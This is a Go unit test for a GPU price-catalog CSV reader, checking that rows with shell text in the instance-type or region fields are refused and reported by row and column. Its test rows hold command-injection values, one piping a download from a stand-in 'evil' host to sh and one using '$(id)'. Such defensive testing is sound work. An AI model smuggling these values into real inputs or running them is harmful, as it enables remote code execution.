package catalog_test

import (
	"strings"
	"testing"

	"gpuplace/internal/catalog"
)

// csvHeader is the public layout's header line.
var csvHeader = strings.Join(catalog.PublicCSVColumns, ",") + "\n"

// Ensure a price-list row whose names would need quoting is refused,
// naming its row and column.
func TestReadPublicCSVRefusesShellText(t *testing.T) {
	for _, tt := range []struct{ name, row, field string }{
		{"instance type with a command", `g4dn.xlarge;curl${IFS}evil|sh,T4,1,4,16,,0.526,,us-east-1,a`, "InstanceType"},
		{"instance type with a quote", `"g4dn'x",T4,1,4,16,,0.526,,us-east-1,a`, "InstanceType"},
		{"region with a command", `g4dn.xlarge,T4,1,4,16,,0.526,,us-east-1$(id),a`, "Region"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ok := "g4dn.xlarge,T4,1,4,16,,0.526,,us-east-1,a\n"
			_, err := catalog.ReadPublicCSV(strings.NewReader(csvHeader+ok+tt.row+"\n"), "aws.csv")
			for _, p := range problemsOf(t, err) {
				if p.Item == "row 3" && p.Field == tt.field {
					return
				}
			}
			t.Errorf("ReadPublicCSV() = %v, want a problem at row 3: %s", err, tt.field)
		})
	}
}
